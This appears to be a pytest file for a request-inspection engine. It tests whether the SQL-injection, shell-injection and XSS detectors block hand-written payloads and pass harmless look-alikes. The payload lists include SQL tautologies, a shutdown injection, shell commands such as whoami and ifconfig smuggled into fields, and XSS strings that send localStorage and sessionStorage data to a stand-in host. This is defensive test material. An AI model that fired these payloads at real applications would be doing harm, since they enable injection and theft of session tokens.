"""Constructs the analysers did not model until a fresh draw of the own corpus (seed 4242, issue
14) showed them: each is tested here with variants written by hand (not taken from the corpus)
in several placements, and with the benign look-alikes that must stay clean.

SQL: a line comment whose separator is itself a comment (`--/**/`, `--/*!*/`), and SQL's boolean
literal as a whole tautology after a number (`1) or true`). Shell: in free text, a line that is a
command line ending the way an injected one ends (`;`, `&`, `|`, a ` #` comment), and a quote
split that ends the command name (`who'ami';`). XSS: script that reads the page's stores or
sends with the browser's senders (`localStorage`, `navigator.sendBeacon`, `new WebSocket`).
False positives: character references and markup in a document's prose, and the `"?>` of an
XML declaration taken for a JavaScript string break-out."""

from __future__ import annotations

import pytest

from node.detect.engine import Engine
from node.detect.shell import detect_shell
from node.detect.sqli import detect_sqli
from node.detect.xss import detect_xss
from tests.support.grammar import placed


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


def _blocked(engine: Engine, value: str, where: str) -> bool:
    return engine.analyze_request(placed(value, where)).is_attack


SQL_COMMENT_AFTER_DASHES = [
    '" or true--/*!*/',
    "-2;shutdown--/*!*/",
    "'/*a*/OR/*a*/TRUE--/*a*/",
    "zz')||true--/**/",
]
SQL_BOOLEAN_LITERAL = ["7) or true", "42 || TRUE", "3))/**/OR/**/true", "-5 or\ttrue"]
SQL_LOOK_ALIKES = ["5--3", "a -- b", "run it with --verbose", '"--force"', "'--dry-run'", "3 or more",
                   "true or false", "1 or true-ish", "Options: 1 or 2"]


@pytest.mark.parametrize("value", SQL_COMMENT_AFTER_DASHES + SQL_BOOLEAN_LITERAL)
@pytest.mark.parametrize("where", ["query", "json", "form"])
def test_sql_constructs_blocked(engine: Engine, value: str, where: str) -> None:
    assert _blocked(engine, value, where), value


@pytest.mark.parametrize("value", SQL_LOOK_ALIKES)
def test_sql_look_alikes_pass(value: str) -> None:
    assert detect_sqli(value, "query") is None
    assert detect_sqli(value, "json") is None


SHELL_TERMINATED_LINES = [
    "1.2.3.4\nifconfig;",
    "build-7\n/bin/cat /etc/hostname #",
    "a\r\nnetstat -an &",
    "srv\nwhoami |",
    "\npwd;",
]
SHELL_QUOTE_SPLIT_AT_END = ["x|who'ami'", "z;una\"me\"", "q&&ifconfi'g'&", "k`i'd'`"]
SHELL_LOOK_ALIKES = [
    "Steps:\nls -la\ncd build",           # a README's lines: no terminator
    "Ranking:\nuptime #1 priority",        # a heading, not a comment ending the line
    "code:\necho \"hi\";\nexit;",          # PHP
    "items\nenv = 3;",                     # an assignment in code
    "list:\nid; name; email",              # column names
    "\nls -la",                            # a snippet after a blank line
]


@pytest.mark.parametrize("value", SHELL_TERMINATED_LINES)
@pytest.mark.parametrize("where", ["json", "form", "query"])
def test_terminated_command_lines_blocked(engine: Engine, value: str, where: str) -> None:
    assert _blocked(engine, value, where), value


@pytest.mark.parametrize("value", SHELL_QUOTE_SPLIT_AT_END)
@pytest.mark.parametrize("where", ["query", "json", "header"])
def test_quote_split_ending_the_name_blocked(engine: Engine, value: str, where: str) -> None:
    assert _blocked(engine, value, where), value


@pytest.mark.parametrize("value", SHELL_LOOK_ALIKES)
def test_shell_look_alikes_pass(value: str) -> None:
    assert detect_shell(value, "json") is None


def test_prose_with_references_and_markup_is_no_command_line(engine: Engine) -> None:
    # a quoted reply and a code span, read raw from XML (references kept) and as a whole document
    assert detect_shell("&gt; quoted\nI'll run `make test` tomorrow, see you &amp; thanks.", "xml") is None
    doc = "<?xml version=\"1.0\"?><feed><entry>&gt; earlier reply\nI'll run `npm ci` later today</entry></feed>"
    assert detect_shell(doc, "body") is None
    assert not _blocked(engine, doc, "xmlbody")
    # the same code span in a command line is still one
    assert detect_shell("x; `whoami` &amp; y", "body") is not None


XSS_EXFILTRATION = [
    "\"-sessionStorage.getItem('sid')-\"",
    "';new WebSocket('wss://c.example/'+localStorage.key(0));//",
    "${navigator.sendBeacon('https://c.example',1)}",
    "\";indexedDB.open('db');//",
    "'};localStorage['jwt'];{'",
]
XSS_LOOK_ALIKES = [
    "Settings are kept in localStorage; clear them with the button",
    'The "navigator" object, and a WebSocket',
    "Use sessionStorage: it ends with the tab",
]


@pytest.mark.parametrize("value", XSS_EXFILTRATION)
@pytest.mark.parametrize("where", ["query", "json", "form"])
def test_exfiltration_sinks_blocked(engine: Engine, value: str, where: str) -> None:
    assert _blocked(engine, value, where), value


@pytest.mark.parametrize("value", XSS_LOOK_ALIKES)
@pytest.mark.parametrize("where", ["query", "json"])
def test_exfiltration_look_alikes_pass(engine: Engine, value: str, where: str) -> None:
    assert not _blocked(engine, value, where), value


def test_xml_declaration_is_no_string_breakout(engine: Engine) -> None:
    doc = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note>print(len('a'), 'b')</note>"
    assert detect_xss(doc, "body") is None
    assert not _blocked(engine, doc, "xmlbody")
    # a real break-out after the declaration still counts
    assert detect_xss("<?xml version=\"1.0\"?><n>x';alert(1);//</n>", "body") == "js-breakout"
